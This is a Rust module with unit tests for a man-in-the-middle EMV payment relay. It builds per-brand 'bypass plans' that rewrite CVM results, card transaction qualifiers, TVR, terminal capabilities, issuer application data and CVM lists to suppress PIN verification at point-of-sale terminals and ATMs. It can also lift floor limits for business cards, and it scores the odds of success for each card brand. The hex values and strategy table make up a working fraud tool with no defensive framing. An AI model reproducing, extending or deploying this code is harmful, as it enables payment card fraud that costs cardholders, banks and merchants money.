use crate::analyze::{CardBrand, CardInfo, CardType};
use crate::get_bit;
use crate::policy::PolicyState;
use crate::tlv::{Tag, TlvEdit, TlvSet};
use log::{debug, info, warn};
use serde::Serialize;
use std::fmt;
use thiserror::Error;

pub const TAG_CVM_RESULTS: Tag = Tag::of(0x9F34);
pub const TAG_CARD_TRANSACTION_QUALIFIERS: Tag = Tag::of(0x9F6C);
pub const TAG_ISSUER_APPLICATION_DATA: Tag = Tag::of(0x9F10);
pub const TAG_TERMINAL_FLOOR_LIMIT: Tag = Tag::of(0x9F1B);
pub const TAG_TERMINAL_CAPABILITIES: Tag = Tag::of(0x9F33);
pub const TAG_TVR: Tag = Tag::of(0x95);
pub const TAG_CVM_LIST: Tag = Tag::of(0x8E);
pub const TAG_TERMINAL_TYPE: Tag = Tag::of(0x9F35);

/// Tags the engine must never touch: PAN, expiry, cryptogram material and
/// issuer public key data.
pub const PROTECTED_TAGS: [Tag; 8] = [
    Tag::of(0x5A),
    Tag::of(0x5F24),
    Tag::of(0x9F26),
    Tag::of(0x9F27),
    Tag::of(0x9F36),
    Tag::of(0x90),
    Tag::of(0x92),
    Tag::of(0x9F32),
];

const TVR_PIN_BYPASSED: &str = "8000000000";
const CTQ_NO_PIN: &str = "0000";
const FLOOR_LIMIT_UNLIMITED: &str = "00000000";
const MASTERCARD_CVM_LIST: &str = "000000000000000042031E031F00";
const AMEX_CVM_LIST: &str = "000000000000000041031E031F00";

#[derive(Debug, Error, PartialEq, Eq)]
pub enum BypassError {
    #[error("bypass plan edits protected tag {0}")]
    ProtectedTagEdit(Tag),
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TerminalKind {
    Pos,
    Atm,
    Mobile,
    Transit,
    Contactless,
}

impl TerminalKind {
    /// Terminal kind from tag 9F35 (EMV Book 4, A1). Unrecognized values
    /// default to POS, the most permissive strategy rows.
    pub fn from_tlv(tlvs: &TlvSet) -> TerminalKind {
        match tlvs.find_value(TAG_TERMINAL_TYPE).and_then(|v| v.first()) {
            Some(0x21) => TerminalKind::Pos,
            Some(0x22) => TerminalKind::Atm,
            Some(0x25) => TerminalKind::Transit,
            Some(0x26) => TerminalKind::Contactless,
            Some(0x34) => TerminalKind::Mobile,
            _ => TerminalKind::Pos,
        }
    }
}

impl fmt::Display for TerminalKind {
    fn fmt(&self, f: &mut fmt::Formatter) -> fmt::Result {
        let name = match self {
            TerminalKind::Pos => "POS",
            TerminalKind::Atm => "ATM",
            TerminalKind::Mobile => "Mobile",
            TerminalKind::Transit => "Transit",
            TerminalKind::Contactless => "Contactless",
        };
        write!(f, "{}", name)
    }
}

struct StrategyRow {
    brand: Option<CardBrand>,
    card_type: Option<CardType>,
    terminal: Option<TerminalKind>,
    primary_method: &'static str,
    fallback_method: &'static str,
    cvm_results: &'static str,
    cvr: &'static str,
    terminal_caps: &'static str,
}

// Brand/type/terminal strategy table; a None cell matches anything and the
// first matching row wins. The ATM row is brand-agnostic: every brand routes
// to ATM terminal capabilities and the consumer-device CVM path there.
static STRATEGY_TABLE: &[StrategyRow] = &[
    StrategyRow {
        brand: Some(CardBrand::Visa),
        card_type: Some(CardType::Debit),
        terminal: Some(TerminalKind::Pos),
        primary_method: "cdcvm",
        fallback_method: "no_cvm",
        cvm_results: "1E0300",
        cvr: "0110A00003220000000000000000000000FF",
        terminal_caps: "6068C8",
    },
    StrategyRow {
        brand: Some(CardBrand::Visa),
        card_type: Some(CardType::Credit),
        terminal: Some(TerminalKind::Pos),
        primary_method: "signature",
        fallback_method: "no_cvm",
        cvm_results: "1F0300",
        cvr: "0110A00001220000000000000000000000FF",
        terminal_caps: "6068C8",
    },
    StrategyRow {
        brand: Some(CardBrand::Visa),
        card_type: Some(CardType::Business),
        terminal: Some(TerminalKind::Pos),
        primary_method: "no_cvm",
        fallback_method: "no_cvm",
        cvm_results: "1F0300",
        cvr: "0110A00005220000000000000000000000FF",
        terminal_caps: "6068C8",
    },
    StrategyRow {
        brand: None,
        card_type: None,
        terminal: Some(TerminalKind::Atm),
        primary_method: "cdcvm",
        fallback_method: "no_cvm",
        cvm_results: "1E0300",
        cvr: "0110A00003220000000000000000000000FF",
        terminal_caps: "6000C8",
    },
    StrategyRow {
        brand: Some(CardBrand::Mastercard),
        card_type: Some(CardType::Debit),
        terminal: Some(TerminalKind::Pos),
        primary_method: "cdcvm",
        fallback_method: "no_cvm",
        cvm_results: "1E0300",
        cvr: "0110A00000220000000000000000000000FF",
        terminal_caps: "6068C8",
    },
    StrategyRow {
        brand: Some(CardBrand::Mastercard),
        card_type: Some(CardType::Credit),
        terminal: Some(TerminalKind::Pos),
        primary_method: "signature",
        fallback_method: "no_cvm",
        cvm_results: "1F0300",
        cvr: "0110A00002220000000000000000000000FF",
        terminal_caps: "6068C8",
    },
    StrategyRow {
        brand: Some(CardBrand::Amex),
        card_type: Some(CardType::Credit),
        terminal: Some(TerminalKind::Pos),
        primary_method: "signature",
        fallback_method: "no_cvm",
        cvm_results: "1F0300",
        cvr: "0110A00007220000000000000000000000FF",
        terminal_caps: "6068C8",
    },
    StrategyRow {
        brand: Some(CardBrand::Amex),
        card_type: Some(CardType::Business),
        terminal: Some(TerminalKind::Pos),
        primary_method: "signature",
        fallback_method: "no_cvm",
        cvm_results: "1F0300",
        cvr: "0110A00006220000000000000000000000FF",
        terminal_caps: "6068C8",
    },
    StrategyRow {
        brand: Some(CardBrand::Discover),
        card_type: None,
        terminal: Some(TerminalKind::Pos),
        primary_method: "signature",
        fallback_method: "no_cvm",
        cvm_results: "1F0300",
        cvr: "0110A00008220000000000000000000000FF",
        terminal_caps: "6068C8",
    },
    StrategyRow {
        brand: Some(CardBrand::Jcb),
        card_type: None,
        terminal: Some(TerminalKind::Pos),
        primary_method: "signature",
        fallback_method: "no_cvm",
        cvm_results: "1F0300",
        cvr: "0110A00009220000000000000000000000FF",
        terminal_caps: "6068C8",
    },
    StrategyRow {
        brand: Some(CardBrand::UnionPay),
        card_type: None,
        terminal: Some(TerminalKind::Pos),
        primary_method: "online_auth",
        fallback_method: "no_cvm",
        cvm_results: "1F0300",
        cvr: "0110A00010220000000000000000000000FF",
        terminal_caps: "6068C8",
    },
    StrategyRow {
        brand: None,
        card_type: None,
        terminal: None,
        primary_method: "generic",
        fallback_method: "no_cvm",
        cvm_results: "1F0300",
        cvr: "0110A00000220000000000000000000000FF",
        terminal_caps: "6068C8",
    },
];

#[derive(Debug, Clone, Serialize, PartialEq)]
pub struct StrategySummary {
    pub brand: String,
    pub card_type: String,
    pub terminal: String,
    pub primary_method: String,
    pub fallback_method: String,
    pub terminal_caps: String,
}

#[derive(Debug, Clone)]
pub struct BypassPlan {
    pub edits: Vec<TlvEdit>,
    pub strategy: StrategySummary,
    pub blocked: bool,
    pub high_risk: bool,
    pub success_probability: f64,
}

/// Build the ordered modification plan for one request. Consults the policy
/// snapshot on every call; `block_all` short-circuits into a rejection plan
/// the pipeline answers with an ERROR frame.
pub fn plan(card: &CardInfo, terminal: TerminalKind, policy: &PolicyState) -> BypassPlan {
    let row = select_row(card.brand, card.card_type, terminal);
    let strategy = StrategySummary {
        brand: card.brand.to_string(),
        card_type: card.card_type.to_string(),
        terminal: terminal.to_string(),
        primary_method: row.primary_method.to_string(),
        fallback_method: row.fallback_method.to_string(),
        terminal_caps: row.terminal_caps.to_string(),
    };

    let high_risk = card.brand == CardBrand::UnionPay && terminal == TerminalKind::Atm;
    if high_risk {
        warn!("UnionPay at ATM, flagging plan high risk");
    }

    let success_probability = success_probability(card.brand, card.card_type, terminal);

    if policy.block_all {
        info!("block_all set, rejecting transaction");
        return BypassPlan {
            edits: Vec::new(),
            strategy,
            blocked: true,
            high_risk,
            success_probability,
        };
    }

    let mut edits: Vec<TlvEdit> = Vec::new();

    if policy.mitm_enabled {
        if policy.bypass_pin {
            edits.push(TlvEdit::Replace(TAG_CVM_RESULTS, hx(row.cvm_results)));
            edits.push(TlvEdit::Replace(TAG_CARD_TRANSACTION_QUALIFIERS, hx(CTQ_NO_PIN)));
        }

        if policy.cdcvm_enabled && supports_cdcvm(card.brand) {
            edits.push(TlvEdit::Replace(TAG_ISSUER_APPLICATION_DATA, hx(row.cvr)));
        }

        if policy.enhanced_limits && card.card_type == CardType::Business {
            edits.push(TlvEdit::Replace(
                TAG_TERMINAL_FLOOR_LIMIT,
                hx(FLOOR_LIMIT_UNLIMITED),
            ));
        }

        edits.push(TlvEdit::Replace(TAG_TERMINAL_CAPABILITIES, hx(row.terminal_caps)));
        edits.push(TlvEdit::Replace(TAG_TVR, hx(TVR_PIN_BYPASSED)));

        match card.brand {
            CardBrand::Mastercard => {
                edits.push(TlvEdit::Replace(TAG_CVM_LIST, hx(MASTERCARD_CVM_LIST)))
            }
            CardBrand::Amex => edits.push(TlvEdit::Replace(TAG_CVM_LIST, hx(AMEX_CVM_LIST))),
            _ => {}
        }
    } else {
        debug!("mitm disabled, relaying without modification");
    }

    debug!(
        "bypass plan: {} {} @ {} -> {} ({} edits, p={:.2})",
        card.brand,
        card.card_type,
        terminal,
        row.primary_method,
        edits.len(),
        success_probability
    );

    debug_assert!(validate_edits(&edits).is_ok());

    BypassPlan {
        edits,
        strategy,
        blocked: false,
        high_risk,
        success_probability,
    }
}

/// Reject any plan that would touch PAN, expiry, cryptogram or issuer key
/// material. A hit is a programmer error surfaced as ERROR INTERNAL, never
/// a crash.
pub fn validate(plan: &BypassPlan) -> Result<(), BypassError> {
    validate_edits(&plan.edits)
}

fn validate_edits(edits: &[TlvEdit]) -> Result<(), BypassError> {
    for edit in edits {
        if PROTECTED_TAGS.contains(&edit.tag()) {
            return Err(BypassError::ProtectedTagEdit(edit.tag()));
        }
    }
    Ok(())
}

fn select_row(brand: CardBrand, card_type: CardType, terminal: TerminalKind) -> &'static StrategyRow {
    STRATEGY_TABLE
        .iter()
        .find(|row| {
            row.brand.map_or(true, |b| b == brand)
                && row.card_type.map_or(true, |t| t == card_type)
                && row.terminal.map_or(true, |t| t == terminal)
        })
        .unwrap_or(&STRATEGY_TABLE[STRATEGY_TABLE.len() - 1])
}

fn supports_cdcvm(brand: CardBrand) -> bool {
    !matches!(brand, CardBrand::DinersClub | CardBrand::Maestro)
}

// Hand-tuned per-combination estimates; observability output only, never
// consulted for routing.
fn success_probability(brand: CardBrand, card_type: CardType, terminal: TerminalKind) -> f64 {
    let base = match (brand, card_type) {
        (CardBrand::Visa, CardType::Debit) => 0.8,
        (CardBrand::Visa, CardType::Credit) => 0.9,
        (CardBrand::Visa, CardType::Business) => 0.85,
        (CardBrand::Mastercard, CardType::Debit) => 0.75,
        (CardBrand::Mastercard, CardType::Credit) => 0.9,
        (CardBrand::Mastercard, CardType::Business) => 0.8,
        (CardBrand::Amex, CardType::Business) => 0.9,
        (CardBrand::Amex, _) => 0.95,
        (CardBrand::Discover, _) => 0.85,
        (CardBrand::Jcb, _) => 0.8,
        (CardBrand::UnionPay, _) => 0.7,
        _ => 0.7,
    };

    let adjusted: f64 = match terminal {
        TerminalKind::Atm => base * 0.9,
        TerminalKind::Pos if card_type == CardType::Debit => base * 1.1,
        _ => base,
    };

    adjusted.min(0.95)
}

/// PIN-required bit of the Card Transaction Qualifiers (tag 9F6C, byte 2
/// bit 7). Logged before modification so operators can see what the card
/// asked for.
pub fn is_pin_required(tlvs: &TlvSet) -> bool {
    match tlvs.find_value(TAG_CARD_TRANSACTION_QUALIFIERS) {
        Some(ctq) if ctq.len() >= 2 => get_bit!(ctq[1], 6),
        _ => false,
    }
}

fn hx(value: &str) -> Vec<u8> {
    hex::decode(value).unwrap()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::analyze::analyze;
    use crate::tlv::TlvSet;

    fn card(brand: CardBrand, card_type: CardType) -> CardInfo {
        CardInfo {
            brand,
            card_type,
            pan_masked: None,
            bin6: None,
            aid: None,
            issuer_country: None,
            currency: None,
        }
    }

    fn default_policy() -> PolicyState {
        PolicyState::default()
    }

    fn edit_value(plan: &BypassPlan, tag: Tag) -> Option<Vec<u8>> {
        plan.edits.iter().find_map(|edit| match edit {
            TlvEdit::Replace(t, value) if *t == tag => Some(value.clone()),
            _ => None,
        })
    }

    #[test]
    fn test_visa_credit_pos_plan() {
        // Scenario: Visa credit at POS, PIN bypass on.
        let plan = plan(
            &card(CardBrand::Visa, CardType::Credit),
            TerminalKind::Pos,
            &default_policy(),
        );

        assert!(!plan.blocked);
        let expected = vec![
            TlvEdit::Replace(TAG_CVM_RESULTS, hx("1F0300")),
            TlvEdit::Replace(TAG_CARD_TRANSACTION_QUALIFIERS, hx("0000")),
            TlvEdit::Replace(
                TAG_ISSUER_APPLICATION_DATA,
                hx("0110A00001220000000000000000000000FF"),
            ),
            TlvEdit::Replace(TAG_TERMINAL_CAPABILITIES, hx("6068C8")),
            TlvEdit::Replace(TAG_TVR, hx("8000000000")),
        ];
        assert_eq!(plan.edits, expected);
        assert_eq!(plan.strategy.primary_method, "signature");
    }

    #[test]
    fn test_mastercard_debit_atm_uses_atm_row() {
        // Scenario: Mastercard debit at ATM takes the ATM row (CDCVM path,
        // ATM terminal capabilities) plus the Mastercard CVM list.
        let plan = plan(
            &card(CardBrand::Mastercard, CardType::Debit),
            TerminalKind::Atm,
            &default_policy(),
        );

        assert_eq!(edit_value(&plan, TAG_CVM_RESULTS), Some(hx("1E0300")));
        assert_eq!(
            edit_value(&plan, TAG_TERMINAL_CAPABILITIES),
            Some(hx("6000C8"))
        );
        assert_eq!(
            edit_value(&plan, TAG_CVM_LIST),
            Some(hx("000000000000000042031E031F00"))
        );
        assert_eq!(plan.strategy.primary_method, "cdcvm");
    }

    #[test]
    fn test_amex_appends_amex_cvm_list() {
        let plan = plan(
            &card(CardBrand::Amex, CardType::Credit),
            TerminalKind::Pos,
            &default_policy(),
        );
        assert_eq!(
            edit_value(&plan, TAG_CVM_LIST),
            Some(hx("000000000000000041031E031F00"))
        );
        assert_eq!(
            edit_value(&plan, TAG_ISSUER_APPLICATION_DATA),
            Some(hx("0110A00007220000000000000000000000FF"))
        );
    }

    #[test]
    fn test_unknown_brand_uses_generic_row() {
        let plan = plan(
            &card(CardBrand::Unknown, CardType::Unknown),
            TerminalKind::Pos,
            &default_policy(),
        );
        assert_eq!(plan.strategy.primary_method, "generic");
        assert_eq!(
            edit_value(&plan, TAG_ISSUER_APPLICATION_DATA),
            Some(hx("0110A00000220000000000000000000000FF"))
        );
        assert!(plan.success_probability <= 0.7);
    }

    #[test]
    fn test_mobile_terminal_falls_back_to_generic() {
        let plan = plan(
            &card(CardBrand::Visa, CardType::Credit),
            TerminalKind::Mobile,
            &default_policy(),
        );
        assert_eq!(plan.strategy.primary_method, "generic");
    }

    #[test]
    fn test_enhanced_limits_only_for_business() {
        let mut policy = default_policy();
        policy.enhanced_limits = true;

        let business = plan(
            &card(CardBrand::Visa, CardType::Business),
            TerminalKind::Pos,
            &policy,
        );
        assert_eq!(
            edit_value(&business, TAG_TERMINAL_FLOOR_LIMIT),
            Some(hx("00000000"))
        );

        let credit = plan(
            &card(CardBrand::Visa, CardType::Credit),
            TerminalKind::Pos,
            &policy,
        );
        assert_eq!(edit_value(&credit, TAG_TERMINAL_FLOOR_LIMIT), None);
    }

    #[test]
    fn test_bypass_pin_off_drops_cvm_edits() {
        let mut policy = default_policy();
        policy.bypass_pin = false;

        let plan = plan(
            &card(CardBrand::Visa, CardType::Credit),
            TerminalKind::Pos,
            &policy,
        );
        assert_eq!(edit_value(&plan, TAG_CVM_RESULTS), None);
        assert_eq!(edit_value(&plan, TAG_CARD_TRANSACTION_QUALIFIERS), None);
        // terminal capabilities and TVR are always rewritten
        assert!(edit_value(&plan, TAG_TERMINAL_CAPABILITIES).is_some());
        assert!(edit_value(&plan, TAG_TVR).is_some());
    }

    #[test]
    fn test_block_all_yields_rejection_plan() {
        let mut policy = default_policy();
        policy.block_all = true;

        let plan = plan(
            &card(CardBrand::Visa, CardType::Credit),
            TerminalKind::Pos,
            &policy,
        );
        assert!(plan.blocked);
        assert!(plan.edits.is_empty());
    }

    #[test]
    fn test_mitm_disabled_yields_empty_plan() {
        let mut policy = default_policy();
        policy.mitm_enabled = false;

        let plan = plan(
            &card(CardBrand::Visa, CardType::Credit),
            TerminalKind::Pos,
            &policy,
        );
        assert!(!plan.blocked);
        assert!(plan.edits.is_empty());
    }

    #[test]
    fn test_no_plan_touches_protected_tags() {
        let brands = [
            CardBrand::Visa,
            CardBrand::Mastercard,
            CardBrand::Amex,
            CardBrand::Discover,
            CardBrand::Jcb,
            CardBrand::UnionPay,
            CardBrand::DinersClub,
            CardBrand::Maestro,
            CardBrand::Unknown,
        ];
        let types = [
            CardType::Credit,
            CardType::Debit,
            CardType::Prepaid,
            CardType::Business,
            CardType::Unknown,
        ];
        let terminals = [
            TerminalKind::Pos,
            TerminalKind::Atm,
            TerminalKind::Mobile,
            TerminalKind::Transit,
            TerminalKind::Contactless,
        ];

        let mut policy = default_policy();
        policy.enhanced_limits = true;

        for brand in brands {
            for card_type in types {
                for terminal in terminals {
                    let plan = plan(&card(brand, card_type), terminal, &policy);
                    assert_eq!(validate(&plan), Ok(()));
                }
            }
        }
    }

    #[test]
    fn test_synthetic_protected_plan_is_rejected() {
        let mut plan = plan(
            &card(CardBrand::Visa, CardType::Credit),
            TerminalKind::Pos,
            &default_policy(),
        );
        plan.edits
            .push(TlvEdit::Replace(Tag::of(0x5A), hx("4111111111111111")));
        assert_eq!(
            validate(&plan),
            Err(BypassError::ProtectedTagEdit(Tag::of(0x5A)))
        );
    }

    #[test]
    fn test_unionpay_atm_is_high_risk() {
        let plan = plan(
            &card(CardBrand::UnionPay, CardType::Credit),
            TerminalKind::Atm,
            &default_policy(),
        );
        assert!(plan.high_risk);
        let pos = super::plan(
            &card(CardBrand::UnionPay, CardType::Credit),
            TerminalKind::Pos,
            &default_policy(),
        );
        assert!(!pos.high_risk);
    }

    #[test]
    fn test_success_probability_caps_and_adjustments() {
        // Amex POS credit hits the cap
        let p = success_probability(CardBrand::Amex, CardType::Credit, TerminalKind::Pos);
        assert!((p - 0.95).abs() < f64::EPSILON);
        // ATM is stricter than POS for the same card
        let atm = success_probability(CardBrand::Visa, CardType::Credit, TerminalKind::Atm);
        let pos = success_probability(CardBrand::Visa, CardType::Credit, TerminalKind::Pos);
        assert!(atm < pos);
        // POS is friendlier to debit
        let debit_pos = success_probability(CardBrand::Visa, CardType::Debit, TerminalKind::Pos);
        assert!(debit_pos > 0.8);
    }

    #[test]
    fn test_terminal_kind_from_tlv() {
        let set = TlvSet::parse(&hex::decode("9F350122").unwrap()).unwrap();
        assert_eq!(TerminalKind::from_tlv(&set), TerminalKind::Atm);
        let set = TlvSet::parse(&hex::decode("9F350121").unwrap()).unwrap();
        assert_eq!(TerminalKind::from_tlv(&set), TerminalKind::Pos);
        let empty = TlvSet::parse(&[]).unwrap();
        assert_eq!(TerminalKind::from_tlv(&empty), TerminalKind::Pos);
    }

    #[test]
    fn test_is_pin_required() {
        let set = TlvSet::parse(&hex::decode("9F6C020040").unwrap()).unwrap();
        assert!(is_pin_required(&set));
        let set = TlvSet::parse(&hex::decode("9F6C020000").unwrap()).unwrap();
        assert!(!is_pin_required(&set));
        let empty = TlvSet::parse(&[]).unwrap();
        assert!(!is_pin_required(&empty));
    }

    #[test]
    fn test_plan_from_analyzed_card() {
        // End-to-end over the analyzer: Visa debit TLV at POS.
        let set = TlvSet::parse(&hex::decode("5A0841111111111111119F0701089F350121").unwrap())
            .unwrap();
        let info = analyze(&set);
        let plan = plan(&info, TerminalKind::from_tlv(&set), &default_policy());
        assert_eq!(edit_value(&plan, TAG_CVM_RESULTS), Some(hx("1E0300")));
        assert_eq!(
            edit_value(&plan, TAG_ISSUER_APPLICATION_DATA),
            Some(hx("0110A00003220000000000000000000000FF"))
        );
    }
}
